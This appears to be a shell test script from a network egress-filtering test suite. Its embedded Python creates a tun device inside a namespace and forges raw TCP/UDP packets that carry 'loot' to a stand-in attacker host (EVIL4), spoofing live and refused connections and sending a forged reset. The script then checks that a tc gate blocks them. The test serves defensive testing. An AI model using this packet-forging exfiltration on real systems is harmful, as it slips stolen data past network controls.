#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: has its namespace forward packets that no socket sent (from a tap of its own), to evil and in the name of connections that are refused
# stopped-by: tc
# reason: destination
# kernels: all
#
# Root with CAP_NET_ADMIN in its own network namespace. One connection was open before the gate came, and
# one is still asking: their addresses and ports are no pass.
. "$(dirname "$0")/../interfaces/lib.sh"
container tcp/443 udp/9000
inside_netns "$CLIENT" sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.{all,default}.rp_filter=0 \
	net.ipv4.conf.{all,default}.accept_local=1
inside_netns "$CLIENT" ip tuntap add tap7 mode tun 2>/dev/null || skip "this kernel has no tun devices"
ip -n "$CLIENT" link set tap7 up
# Somebody who never answers.
silent=192.0.2.77
ip -n "$CLIENT" neighbour add "$silent" dev eth0 \
	lladdr "$(server cat /sys/class/net/eth0/address 2>/dev/null || ip -n "$SERVER" -j link show eth0 | jq -r '.[0].address')"

attack_by <<'PYTHON'
from attacker import *
import fcntl

TUNSETIFF, IFF_TUN, IFF_NO_PI = 0x400454CA, 0x0001, 0x1000
tun = os.open("/dev/net/tun", os.O_RDWR)
fcntl.ioctl(tun, TUNSETIFF, struct.pack("16sH", b"tap7", IFF_TUN | IFF_NO_PI))

living = tcp(EVIL4)
living.connect((EVIL4, 443))
asking = tcp(EVIL4)
asking.setblocking(False)
with attempt("ask"):
    asking.connect(("192.0.2.77", 443))
ready()

def forward(sock_or_port, address, tag, flags):
    port = sock_or_port if isinstance(sock_or_port, int) else sock_or_port.getsockname()[1]
    os.write(tun, ip4(address, 6, tcp_body(address, 443, loot(tag), sport=port, flags=flags)))

with attempt("of nobody"):
    os.write(tun, ip4(EVIL4, 17, udp_body(EVIL4, 9000, loot("nobody"))))
    forward(4711, EVIL4, "nobody-tcp", 0x18)
with attempt("of a living connection"):
    forward(living, EVIL4, "living", 0x18)
with attempt("of one that asks"):
    forward(asking, "192.0.2.77", "asking", 0x18)
    forward(asking, "192.0.2.77", "asking-syn", 0x02)
with attempt("a reset with nothing but numbers"):
    forward_reset = ip4(EVIL4, 6, tcp_body(EVIL4, 443, sport=4712, flags=0x04))
    os.write(tun, forward_reset)
PYTHON
works_once_open stolen:nobody stolen:nobody-tcp stolen:living stolen:asking stolen:asking-syn 'ip4 6 192.0.2.2 EVIL4 443 40'
# An attacker makes its device when the gate is there; by name the interface is gated whatever is behind it.
gate_by_name() { gate_on "$CG" --interface "$PORT"; }
stopped_once_open gate_by_name
recorded tc destination
